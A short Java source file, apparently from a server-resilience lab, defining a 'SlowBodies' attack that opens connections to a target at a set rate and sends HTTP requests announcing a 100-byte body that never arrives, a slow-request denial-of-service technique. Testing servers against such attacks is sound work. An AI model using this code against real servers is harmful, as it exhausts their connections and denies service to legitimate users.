package io.tcpwait.lab.attack;

import static java.nio.charset.StandardCharsets.US_ASCII;

import java.io.IOException;
import java.net.InetSocketAddress;

/**
 * Requests that announce a body and never send it.
 *
 * @param perSecond new connections a second
 */
public record SlowBodies(int perSecond) implements Attack {
  private static final byte[] REQUEST =
      "GET /metrics HTTP/1.1\r\nHost: a\r\nContent-Length: 100\r\n\r\n".getBytes(US_ASCII);

  @Override
  public String name() {
    return "slow_bodies_" + perSecond;
  }

  @Override
  public long run(InetSocketAddress target, int seconds) throws IOException, InterruptedException {
    return Held.sending(target, perSecond, seconds, () -> REQUEST);
  }
}
